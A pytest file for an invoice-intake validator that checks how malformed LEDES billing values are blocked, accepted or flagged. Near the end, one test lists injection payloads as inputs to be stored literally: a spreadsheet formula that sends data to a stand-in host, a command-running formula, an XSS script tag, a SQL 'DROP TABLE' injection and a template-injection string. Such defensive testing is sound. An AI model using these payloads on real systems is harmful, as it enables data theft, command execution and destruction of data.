"""Bad inputs B70 to B97 and B102: values that are wrong, odd or dangerous, each with its answer.

Where the list of bad inputs refuses what the guide to formats forgives, the guide decides: B70's
ISO date, B74's forms of numbers, B84's repeated line number and B96's blanks are read with a word.
B90 needs what the store knows, B91 needs agreed rates, and B93, B98 and B99 are about uploads.
"""

import pytest

from legalops.intake.draft import Earlier
from legalops.intake.ledes import fields
from legalops.intake.names import fold
from tests.intake import test_98bi
from tests.intake.bad import ACCEPTED, BLOCKED, Bad, name, told
from tests.intake.files import FIRM, checked, codes, draft, ledes, only, row
from tests.intake.test_invoices import EARLIER, OTHER

DUPLICATE = "duplicate"


def _date(text: str, says: str, code: str = "bad_date") -> Bad:
    return Bad(f"B70 {text}", ledes(row(day=text)), BLOCKED, code, 3, fields.LINE_DATE, text, says)


def _amount(id_: str, text: str, says: str, code: str = "bad_number") -> Bad:
    data = ledes(row(total=text))
    return Bad(f"{id_} {text}", data, BLOCKED, code, 3, fields.LINE_TOTAL, text[:39], says)


def _forgiven(text: str, is_told: bool) -> Bad:
    data = ledes(row(rate=text, units="1", total=text, stated=text))
    if not is_told:
        return Bad(f"B74 {text!r} is taken", data, ACCEPTED)
    return Bad(f"B74 {text!r} is taken with a word", data, ACCEPTED, "number_form", 3,
               fields.LINE_TOTAL, text, "taken off", is_warning=True)  # fmt: skip


DATES = [
    _date("20240230", "no such day"), _date("20241301", "no such day"),
    _date("00000000", "no such day"), _date("2024011", "YYYYMMDD"), _date("240101", "YYYYMMDD"),
    Bad("B70 an ISO date is taken with a word", ledes(row(day="2026-01-10")), ACCEPTED,
        "date_form", 3, fields.LINE_DATE, "2026-01-10", "ISO", is_warning=True),
    Bad("B71 work outside the period", ledes(row(day="20260215")), ACCEPTED, "date_outside_period",
        3, fields.LINE_DATE, "20260215", "outside the billing period", is_warning=True),
    Bad("B72 a period that ends before it starts", ledes(row(end="20251231")), BLOCKED,
        "period_order", 3, fields.BILLING_START_DATE, "20260101", "after its end"),
    Bad("B73 an invoice of 2087", ledes(row(invoice_date="20870101")), BLOCKED, "date_range", 3,
        fields.INVOICE_DATE, "20870101", "accepted here"),
    Bad("B73 an invoice of 1899", ledes(row(invoice_date="18991231")), BLOCKED, "date_range", 3,
        fields.INVOICE_DATE, "18991231", "1990"),
]  # fmt: skip
AMOUNTS = [
    _amount("B74", "1.234,56", "point for decimals"), _amount("B74", "5-", "minus in front"),
    _amount("B74", "0x10", "write digits"), _amount("B74", "1e3", "exponent"),
    _amount("B74", "\u22125", "plain minus"), _amount("B74", "1 234.50", "blanks"),
    *(_forgiven(text, is_told=True) for text in ("1,234.56", "$5", "(5.00)")),
    *(_forgiven(text, is_told=False) for text in ("+5", " 5", "5 ", ".5", "5.", "007", "-0")),
    Bad("B74 a blank amount", ledes(row(total="")), BLOCKED, "required_blank", 3,
        fields.LINE_TOTAL, says="is blank"),
    *(_amount("B75", text, "write digits") for text in ("NaN", "inf", "-inf")),
    _amount("B75", "1e999", "exponent"), _amount("B75", "1_000", "write digits"),
    _amount("B76", "99999999999999999999", "more than", "out_of_range"),
    Bad("B77 three decimals", ledes(row(total="300.005", stated="300.00")), BLOCKED,
        "too_many_decimals", 3, fields.LINE_TOTAL, "300.005", "finer decimals than USD"),
    Bad("B78 a fee below zero", ledes(row(rate="-200", total="-300", stated="-300")), ACCEPTED,
        "negative_line", 3, fields.LINE_TOTAL, "-300.00", "a credit?", is_warning=True),
    Bad("B78 units below zero", ledes(row(units="-1.5", total="-300", stated="-300")), ACCEPTED,
        "negative_units", 3, fields.UNITS, "-1.50", "a credit?", is_warning=True),
    Bad("B78 a credit note", ledes(row(units="-1.5", total="-300", stated="-300")), ACCEPTED,
        "credit_note", 3, fields.INVOICE_TOTAL, "-300.00", "a credit note?", is_warning=True),
    Bad("B79 a line off by a cent", ledes(row(total="300.01", stated="300.01")), ACCEPTED),
    Bad("B79 a line off by two", ledes(row(total="300.02", stated="300.02")), BLOCKED,
        "line_total", 3, fields.LINE_TOTAL, "300.02", "300.00"),
    Bad("B80 two totals of one invoice", ledes(row(stated="600"), row(stated="601", line="2")),
        BLOCKED, "invoice_totals_differ", 3, fields.INVOICE_TOTAL, "600",
        "600 on line 3, 601 on line 4"),
    Bad("B81 a total that is not the sum", ledes(row(stated="1000")), BLOCKED, "invoice_total", 3,
        fields.INVOICE_TOTAL, "1000.00", "comes to 300.00, a difference of 700.00"),
    Bad("B82 a line of no money", ledes(row(rate="0", total="0", stated="0")), ACCEPTED),
    Bad("B82 a fee of no hours", ledes(row(units="0", total="0", stated="0")), ACCEPTED,
        "zero_hours", 3, fields.UNITS, "0", "no hours", is_warning=True),
    Bad("B83 25 hours a day", ledes(row(units="25", total="5000", stated="5000")), ACCEPTED,
        "long_day", 3, fields.UNITS, "25.00", "25.00 hours on 2026-01-10", is_warning=True),
]  # fmt: skip
INVOICES = [
    Bad("B84 a line number twice is taken with a word",
        ledes(row(stated="600"), row(stated="600", keeper="T2")), ACCEPTED,
        "line_number_repeated", 4, fields.LINE_ITEM_NUMBER, "1", "line 3", is_warning=True),
    Bad("B85 two currencies",
        test_98bi.file(test_98bi.bi(stated="720"), test_98bi.bi(
            stated="720", line="2", keeper="T2", **{fields.CURRENCY: "EUR"})),
        BLOCKED, "currencies_differ", 4, fields.CURRENCY, "EUR", "GBP on line 3"),
    Bad("B86 an unknown currency", test_98bi.file(test_98bi.bi(**{fields.CURRENCY: "USX"})),
        BLOCKED, "currency", 3, fields.CURRENCY, "USX", "ISO 4217"),
    Bad("B86 a currency in lower case", test_98bi.file(test_98bi.bi(**{fields.CURRENCY: "usd"})),
        ACCEPTED),
    Bad("B95 one number of two vendors", ledes(row(), row(firm=OTHER)), ACCEPTED),
    Bad("B97 an invoice twice in one file",
        ledes(row(stated="600"), row(line="2", stated="600"), row(number="B-1"),
              row(stated="600"), row(line="2", stated="600")), BLOCKED, "invoice_twice", 6,
        fields.INVOICE_NUMBER, "A-100", "from line 3 and again from line 6"),
]  # fmt: skip


@pytest.mark.parametrize("bad", DATES + AMOUNTS + INVOICES, ids=name)
def test_a_bad_value_gives_its_answer(bad: Bad) -> None:
    told(checked(bad.data, currencies={FIRM: "USD", OTHER: "USD"}), bad)


@pytest.mark.parametrize(
    ("currency", "total", "outcome"),
    [("JPY", "300.50", BLOCKED), ("JPY", "300.00", ACCEPTED), ("KWD", "300.005", ACCEPTED)],
)
def test_b87_an_amount_has_the_decimals_of_its_currency(
    currency: str, total: str, outcome: str
) -> None:
    found = checked(ledes(row(total=total, stated=total)), currencies={FIRM: currency})
    assert found.outcome == outcome
    wrong = [(p.code, p.value) for p in found.problems]
    assert wrong == ([("too_many_decimals", "300.50")] * 2 if outcome == BLOCKED else [])


def test_b88_invoices_in_two_currencies_keep_their_own_totals() -> None:
    data = test_98bi.file(test_98bi.bi(), test_98bi.bi(number="B-1", **{fields.CURRENCY: "EUR"}))
    found = checked(data)
    assert [(i.currency, i.total_cents, i.tax_cents) for i in found.invoices] == [
        ("GBP", 30_000, 6_000), ("EUR", 30_000, 6_000)
    ]  # fmt: skip
    assert found.problems == ()


@pytest.mark.parametrize(
    ("short", "field"),
    [("task", fields.TASK_CODE), ("activity", fields.ACTIVITY_CODE),
     ("expense", fields.EXPENSE_CODE)],
)  # fmt: skip
def test_b89_an_unknown_code_is_named_and_kept(short: str, field: str) -> None:
    codes_known = frozenset({"L110", "A102"})
    found = checked(
        ledes(row(**{short: "ZZ9"})), task_codes=codes_known, activity_codes=codes_known,
        expense_codes=codes_known,
    )  # fmt: skip
    problem = only(found, "warning")
    assert (problem.code, problem.line, problem.field, problem.value) == (
        "unknown_code", 3, field, "ZZ9"
    )  # fmt: skip


def test_b92_an_invoice_that_came_before_is_not_stored_again() -> None:
    found = checked(ledes(row()), live_invoices={(FIRM, fold("A-100")): EARLIER})
    assert (found.outcome, only(found).code) == (DUPLICATE, "duplicate_invoice")


def test_b94_an_invoice_that_came_with_another_cent_is_told() -> None:
    earlier = Earlier(7, 3, "2026-06-03T09:00:00.000000Z", "Ana", "2026-02-15", 29_999, 1)
    problem = only(checked(ledes(row()), live_invoices={(FIRM, fold("A-100")): earlier}))
    assert (problem.code, problem.line, problem.field) == (
        "invoice_changed", 3, fields.INVOICE_NUMBER
    )  # fmt: skip
    assert "with other content" in problem.message


@pytest.mark.parametrize("number", ["a-100", " A-100 ", "A-1\u200b00", "\uff21-100"])
def test_b96_a_number_that_only_looks_different_is_the_same(number: str) -> None:
    live = {(FIRM, fold("A-100")): EARLIER}
    assert checked(ledes(row(number=number)), live_invoices=live).outcome == DUPLICATE
    both = checked(ledes(row(), row(number=number, line="2", keeper="T2")))
    assert both.outcome == BLOCKED


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x?"&A1)', "+cmd/' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1d1+1",
     "<script>alert(1)</script>", "'; DROP TABLE invoice;--", "%_\\", "${7*7}"],
)  # fmt: skip
def test_b102_a_text_that_looks_like_a_formula_is_kept_to_the_letter(text: str) -> None:
    found = draft(ledes(row(text=text)))
    assert list(found.lines.narrative) == [text]
    assert codes(found.problems) == []


def test_b102_a_tab_is_a_blank_and_a_return_ends_a_line() -> None:
    assert list(draft(ledes(row(text="a\tb"))).lines.narrative) == ["a b"]
    assert list(draft(ledes(row(text="a\rb"))).lines.narrative) == ["a b"]
